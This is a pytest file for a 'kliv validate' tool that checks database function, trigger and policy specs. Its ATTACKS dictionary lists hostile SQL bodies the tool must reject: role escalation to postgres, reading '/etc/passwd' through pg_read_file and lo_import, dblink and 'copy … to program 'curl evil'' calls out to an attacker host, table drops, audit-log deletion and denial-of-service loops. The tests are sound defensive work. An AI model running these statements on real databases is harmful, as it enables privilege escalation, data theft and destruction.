"""DatabaseFunction bodies and Triggers through ``kliv validate``: untrusted code, rejected with the line.

- :class:`TestAdversarialBodies`: every body of the corpus (the fragment corpus' classes, plus the
  escapes a definer function invites: ``search_path`` and ``pg_temp`` shadowing, ``set role``,
  ``set_config``, dynamic SQL, catalogs) exits 1 with the JSON pointer ``/spec/body`` and the line
  inside the body in the message.
- :class:`TestSupabaseBodies`: the forms Supabase's examples write validate.
- :class:`TestReferences`: what a body, a trigger and a policy name must exist in the project.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from corpus_baseline import APPENDED, BASELINE_TEXT, validate_cli


def _function(object_name: str, body: str, language: str = "plpgsql", returns: str = "integer", **spec: Any) -> str:
    return yaml.safe_dump(
        {
            "apiVersion": "cloud.kliv.dev/v1alpha1",
            "kind": "DatabaseFunction",
            "metadata": {"name": object_name},
            "spec": {"projectRef": {"name": "shop"}, "language": language, "returns": returns, "body": body, **spec},
        },
        sort_keys=False,
    )


def _trigger(name: str, **spec: Any) -> str:
    return yaml.safe_dump(
        {
            "apiVersion": "cloud.kliv.dev/v1alpha1",
            "kind": "Trigger",
            "metadata": {"name": name},
            "spec": {"projectRef": {"name": "shop"}, "timing": "before", "events": ["insert"], **spec},
        },
        sort_keys=False,
    )


def _validate(tmp_path: Path, *documents: str) -> tuple[int, list[dict[str, Any]]]:
    folder = tmp_path / "specs"
    folder.mkdir()
    (folder / "specs.yaml").write_text(BASELINE_TEXT + "".join("---\n" + d for d in documents))
    result, payload = validate_cli(folder)
    return result.exit_code, payload["errors"]


def _block(*lines: str) -> str:
    return "begin\n" + "".join(f"  {line}\n" for line in lines) + "  return 1;\nend;\n"


# name -> (body, the line the rejection names); plpgsql unless the name starts with `sql-`
ATTACKS: dict[str, tuple[str, int]] = {
    "execute": (_block("execute 'drop table orders';"), 2),
    "execute-format": (_block("execute format('delete from %I', 'orders');"), 2),
    "return-query-execute": ("begin\n  return query execute 'select 1';\nend;\n", 2),
    "for-in-execute": (
        "declare r record;\nbegin\n  for r in execute 'select 1' loop\n  end loop;\n  return 1;\nend;\n",
        3,
    ),
    "set-role": (_block("set role postgres;"), 2),
    "set-local-role": (_block("set local role postgres;"), 2),
    "reset-role": (_block("reset role;"), 2),
    "set-search-path": (_block("set search_path = pg_temp, public;"), 2),
    "set_config-role": (_block("perform set_config('role', 'postgres', true);"), 2),
    "set_config-claims": (_block("perform set_config('request.jwt.claims', '{}', true);"), 2),
    "current_setting": (_block("if current_setting('role') = 'x' then", "  return 2;", "end if;"), 2),
    "pg_temp-table": (_block("insert into pg_temp.orders (total) values (1);"), 2),
    "pg_temp-function": (_block("perform pg_temp.lower('x');"), 2),
    "pg_temp-cast": (_block("perform 'x'::pg_temp.text;"), 2),
    "pg_catalog-table": (_block("perform 1 from pg_catalog.pg_authid;"), 2),
    "catalog-table": (_block("perform 1 from pg_authid;"), 2),
    "information_schema": (_block("perform 1 from information_schema.tables;"), 2),
    "other-schema": (_block("update storage.objects set name = 'x';"), 2),
    "audit-log": (_block("delete from audit.log;"), 2),
    "regclass-cast": (_block("perform 'pg_authid'::regclass;"), 2),
    "pg_sleep": (_block("perform pg_sleep(10);"), 2),
    "quoted-pg_sleep": (_block('perform "pg_sleep"(10);'), 2),
    "pg_read_file": (_block("perform pg_read_file('/etc/passwd');"), 2),
    "dblink": (_block("perform dblink_exec('host=evil', 'drop table x');"), 2),
    "lo_import": (_block("perform lo_import('/etc/passwd');"), 2),
    "copy": (_block("copy orders to '/tmp/x';"), 2),
    "copy-program": (_block("copy orders to program 'curl evil';"), 2),
    "create-table": (_block("create table x (a int);"), 2),
    "drop-table": (_block("drop table orders;"), 2),
    "alter-role": (_block("alter role postgres password 'x';"), 2),
    "grant": (_block("grant all on orders to public;"), 2),
    "create-function": (_block("create function f() returns int language sql as 'select 1';"), 2),
    "notify": (_block("notify kliv_ddl;"), 2),
    "commit": (_block("commit;"), 2),
    "loop": ("begin\n  loop\n  end loop;\nend;\n", 2),
    "while": ("begin\n  while true loop\n  end loop;\nend;\n", 2),
    "for-range": ("begin\n  for i in 1..1000000000 loop\n  end loop;\n  return 1;\nend;\n", 2),
    "exception-block": ("begin\n  return 1;\nexception when others then\n  return 2;\nend;\n", 3),
    "cte-writes": (_block("with x as (delete from orders returning id) select 1 into strict i;"), 2),
    "lpad-huge": (_block("perform lpad('', 100000000, 'x');"), 2),
    "regex-backreference": (_block("perform 1 from customers where email ~ '(a+)+\\1';"), 2),
    "xml": (_block("perform query_to_xml('select * from pg_authid', true, true, '');"), 2),
    "third-line": ("declare\n  n integer;\nbegin\n  n := 1;\n  perform pg_sleep(n);\n  return n;\nend;\n", 5),
    "assign-from-catalog": ("declare\n  n text;\nbegin\n  n := rolname from pg_authid;\n  return 1;\nend;\n", 4),
    "syntax-error": ("begin\n  perform 1;\n  selec 1;\n  return 1;\nend;\n", 3),
    "declare-default": ("declare\n  x text := set_config('role', 'postgres', false);\nbegin\n  return 1;\nend;\n", 2),
    "declare-default-catalog": (
        "declare\n  n int;\n  x text := (select string_agg(datname, ',') from pg_catalog.pg_database);\n"
        "begin\n  return 1;\nend;\n",
        3,
    ),
    "nested-declare-default": (
        "begin\n  declare\n    y text := query_to_xml('select 1', true, true, '');\n  begin\n    return 1;\n"
        "  end;\nend;\n",
        3,
    ),
    "declare-lo_export": ("declare\n  w int := lo_export(1, '/tmp/x');\nbegin\n  return 1;\nend;\n", 2),
    "cursor": ("declare\n  c cursor for select 1 from pg_authid;\nbegin\n  return 1;\nend;\n", 2),
    "regclass-variable": ("declare\n  r regclass;\nbegin\n  return 1;\nend;\n", 2),
    "subscript-target": (
        "declare\n  a int[];\nbegin\n  a[length(set_config('my.x', 'y', false))] := 7;\n  return 1;\nend;\n",
        4,
    ),
    "sql-ddl": ("drop table orders", 1),
    "sql-stacked": ("select 1;\nset role postgres", 2),
    "sql-select-into-table": ("select * into stolen from customers", 1),
    "sql-do": ("do $$ begin perform 1; end $$", 1),
    "sql-call": ("call orders_cleanup()", 1),
    "sql-catalog-join": ("select count(*)::integer from customers c join pg_roles r on true", 1),
}


class TestAdversarialBodies:
    def test_corpus_is_large_enough(self) -> None:
        assert len(ATTACKS) >= 40

    @pytest.mark.parametrize("name", sorted(ATTACKS))
    def test_rejected_with_the_line(self, name: str, tmp_path: Path) -> None:
        body, line = ATTACKS[name]
        language = "sql" if name.startswith("sql-") else "plpgsql"
        declarations = "declare i integer;\n" if name == "cte-writes" else ""
        returns = "setof orders" if name == "return-query-execute" else "integer"
        code, errors = _validate(tmp_path, _function("attack", declarations + body, language, returns))
        assert code == 1
        found = [e for e in errors if e["document"] == APPENDED and e["path"] == "/spec/body"]
        assert found, errors
        expected = line + (1 if declarations else 0)
        assert found[0]["message"].startswith(f"body line {expected} "), found[0]["message"]
        assert found[0]["hint"]

    def test_definer_function_cannot_be_named_like_a_builtin(self, tmp_path: Path) -> None:
        """pg_catalog comes first in every path: a `set_config` of the project would never be called."""
        code, errors = _validate(tmp_path, _function("set-config", "select 1", "sql", name="set_config"))
        assert code == 1
        assert [e["path"] for e in errors if e["document"] == APPENDED] == ["/spec/name"]


HANDLE_NEW_USER = """\
begin
  insert into public.customers (id, email)
  values (new.id, new.email);
  return new;
end;
"""
AUTHORIZE = """\
declare
  found_rows int;
begin
  select count(*)
  from public.orders
  where orders.customer_id = authorize.user_id
    and orders.state = authorize.requested_state
  into found_rows;
  return found_rows > 0;
end;
"""


class TestSupabaseBodies:
    def test_new_user_trigger_on_auth_users(self, tmp_path: Path) -> None:
        code, errors = _validate(
            tmp_path,
            _function("handle-new-user", HANDLE_NEW_USER, returns="trigger", security="definer"),
            _trigger("on-auth-user-created", table="auth.users", timing="after", function="handle_new_user"),
        )
        assert (code, errors) == (0, [])

    def test_definer_helper_called_from_a_policy(self, tmp_path: Path) -> None:
        authorize = _function(
            "authorize", AUTHORIZE, returns="boolean", security="definer", volatility="stable",
            expose=["authenticated"],
            arguments=[{"name": "requested_state", "type": "order_state"}, {"name": "user_id", "type": "uuid"}],
        )  # fmt: skip
        policy = yaml.safe_dump({
            "apiVersion": "cloud.kliv.dev/v1alpha1", "kind": "TablePolicy", "metadata": {"name": "orders-delete"},
            "spec": {"projectRef": {"name": "shop"}, "table": "orders", "command": "delete",
                     "roles": ["authenticated"], "using": "authorize('paid', (select auth.uid()))"},
        })  # fmt: skip
        assert _validate(tmp_path, authorize, policy) == (0, [])


class TestReferences:
    def test_body_names_a_missing_table_and_function(self, tmp_path: Path) -> None:
        body = "begin\n  perform 1 from custmers;\n  perform recompute(1);\n  return 1;\nend;\n"
        code, errors = _validate(tmp_path, _function("broken", body))
        assert code == 1
        assert [(e["path"], e["message"], e["hint"]) for e in errors if e["document"] == APPENDED] == [
            ("/spec/body", "body line 2: table `custmers` does not exist in the project", "did you mean `customers`?"),
            ("/spec/body", "body line 3: function `recompute()` is not allowed",
             "allowed functions include now(), gen_random_uuid(), lower(), length(), coalesce(), auth.uid(), "
             "or a DatabaseFunction of the project"),
        ]  # fmt: skip

    def test_trigger_needs_a_trigger_function(self, tmp_path: Path) -> None:
        code, errors = _validate(
            tmp_path,
            _function("count-orders", "select count(*)::integer from orders", "sql"),
            _trigger("stamp", table="orders", function="count_orders"),
            _trigger("stamp2", table="ordres", function="missing"),
        )
        assert code == 1
        assert [(e["document"], e["path"]) for e in errors] == [
            (APPENDED + 1, "/spec/function"), (APPENDED + 2, "/spec/table"), (APPENDED + 2, "/spec/function"),
        ]  # fmt: skip

    def test_trigger_condition_reads_new_and_old(self, tmp_path: Path) -> None:
        function = _function("stamp", "begin\n  return new;\nend;\n", returns="trigger")
        code, errors = _validate(
            tmp_path,
            function,
            _trigger("a", table="orders", function="stamp", events=["insert"], when="old.total > 0"),
            _trigger("b", table="orders", function="stamp", events=["update"], when="new.totl > 0"),
            _trigger("c", table="orders", function="stamp", events=["update"], when="total > 0"),
        )
        assert code == 1
        assert [(e["document"], e["path"], e["hint"]) for e in errors] == [
            (APPENDED + 1, "/spec/when", "insert triggers read `new`, delete triggers read `old`"),
            (APPENDED + 2, "/spec/when", "did you mean `total`?"),
            (APPENDED + 3, "/spec/when", "a trigger's condition reads the row as `new` (after) and `old` (before)"),
        ]

    def test_policy_calls_need_an_exposed_function(self, tmp_path: Path) -> None:
        """Dropping a function a policy uses is caught at validate; so is one not exposed to its roles."""
        policy = yaml.safe_dump({
            "apiVersion": "cloud.kliv.dev/v1alpha1", "kind": "TablePolicy", "metadata": {"name": "orders-delete"},
            "spec": {"projectRef": {"name": "shop"}, "table": "orders", "command": "delete",
                     "roles": ["authenticated"], "using": "is_owner(customer_id)"},
        })  # fmt: skip
        code, errors = _validate(tmp_path, policy)
        assert code == 1
        assert [(e["path"], e["message"]) for e in errors] == [("/spec/using", "function `is_owner()` is not allowed")]
        owner = _function("is-owner", "select $1 = auth.uid()", "sql", returns="boolean",
                          arguments=[{"name": "customer", "type": "uuid"}])  # fmt: skip
        code, errors = _validate(tmp_path / "2", owner, policy) if (tmp_path / "2").mkdir() is None else (0, [])
        assert code == 1
        assert [e["hint"] for e in errors] == ["add `expose: [authenticated]` to DatabaseFunction `is_owner`"]


class TestRunTimeFailuresCaughtAtValidate:
    """What Postgres would refuse only when the function runs, or what would run without end."""

    @pytest.mark.parametrize(
        ("documents", "message"),
        [
            ([_function("a", "select b(1)", "sql"), _function("b", "select a()", "sql", arguments=[
                {"name": "n", "type": "integer"}])], "`a()` calls itself through `b()`: recursion is unbounded work"),
            ([_function("a", "begin\n  return a();\nend;\n")], "`a()` calls itself: recursion is unbounded work"),
            ([_function("a", "begin\n  delete from orders;\n  return 1;\nend;\n", volatility="stable")],
             "body line 2: a stable function may not write tables"),
            ([_function("a", "begin\n  perform 1;\nend;\n")],
             "the body never returns a value: Postgres fails when it reaches `end`"),
            ([_function("a", "begin\n  insert into customers (id, emial) values (gen_random_uuid(), 'x');\n"
                             "  return 1;\nend;\n")], "body line 2: column `emial` does not exist on `customers`"),
            ([_function("a", "begin\n  return b(1, 2);\nend;\n"), _function("b", "select 1", "sql")],
             "body line 2: `b()` takes 0 arguments, not 2"),
            ([_function("stamp", "begin\n  new.note := new.raw_user_metadata->>'x';\n  return new;\nend;\n",
                        returns="trigger", security="definer"),
              _trigger("t", table="auth.users", timing="after", function="stamp")],
             "body line 2: `new.raw_user_metadata`: `auth.users` (the table of Trigger `t`) has no such column"),
        ],
    )  # fmt: skip
    def test_refused(self, documents: list[str], message: str, tmp_path: Path) -> None:
        code, errors = _validate(tmp_path, *documents)
        assert code == 1
        assert message in [e["message"] for e in errors], [e["message"] for e in errors]

    def test_an_invoker_trigger_on_auth_users_is_refused(self, tmp_path: Path) -> None:
        """The platform (a superuser) writes auth.users: an invoker function there would run as it."""
        code, errors = _validate(
            tmp_path,
            _function("stamp", HANDLE_NEW_USER, returns="trigger"),
            _trigger("t", table="auth.users", timing="after", function="stamp"),
        )
        assert code == 1
        [error] = errors
        assert (error["path"], error["hint"].startswith("set `security: definer`")) == ("/spec/function", True)


class TestPolicyForms:
    @pytest.mark.parametrize(
        "using", ["public.is_owner(customer_id)", "(select auth.jwt() ->> 'aal') = 'aal2' and is_owner(customer_id)"]
    )
    def test_supabase_forms_validate(self, using: str, tmp_path: Path) -> None:
        owner = _function("is-owner", "select $1 = auth.uid()", "sql", returns="boolean", expose=["authenticated"],
                          arguments=[{"name": "customer", "type": "uuid"}])  # fmt: skip
        policy = yaml.safe_dump({
            "apiVersion": "cloud.kliv.dev/v1alpha1", "kind": "TablePolicy", "metadata": {"name": "orders-delete"},
            "spec": {"projectRef": {"name": "shop"}, "table": "orders", "command": "delete",
                     "roles": ["authenticated"], "using": using},
        })  # fmt: skip
        assert _validate(tmp_path, owner, policy) == (0, [])


class TestAgentForms:
    @pytest.mark.parametrize(
        "body",
        [
            "$$\nbegin\n  return 1;\nend;\n$$",
            "create or replace function public.f() returns int as $$ begin return 1; end; $$ language plpgsql;",
        ],
    )
    def test_the_whole_create_function_is_refused_with_the_fix(self, body: str, tmp_path: Path) -> None:
        code, errors = _validate(tmp_path, _function("pasted", body))
        assert code == 1
        [error] = [e for e in errors if e["document"] == APPENDED]
        assert (error["path"], "inside `$$ ... $$`" in error["hint"]) == ("/spec/body", True)


class TestRecursionThroughFunctions:
    """Supabase's classic pitfall: a policy on a table calling an invoker helper that reads the table."""

    @pytest.mark.parametrize(("security", "code"), [("invoker", 1), ("definer", 0)])
    def test_an_invoker_helper_reading_the_policys_table_recurses(
        self, security: str, code: int, tmp_path: Path
    ) -> None:
        helper = _function("owns-order", "select exists (select 1 from orders o where o.id = $1 and "
                           "o.customer_id = auth.uid())", "sql", returns="boolean", security=security,
                           expose=["authenticated"], arguments=[{"name": "order_id", "type": "bigint"}])  # fmt: skip
        policy = yaml.safe_dump({
            "apiVersion": "cloud.kliv.dev/v1alpha1", "kind": "TablePolicy", "metadata": {"name": "orders-own-read"},
            "spec": {"projectRef": {"name": "shop"}, "table": "orders", "command": "select",
                     "roles": ["authenticated"], "using": "owns_order(id)"},
        })  # fmt: skip
        found, errors = _validate(tmp_path, helper, policy)
        assert found == code
        if code:
            assert "would recurse forever: `orders` → `orders`" in errors[0]["message"]
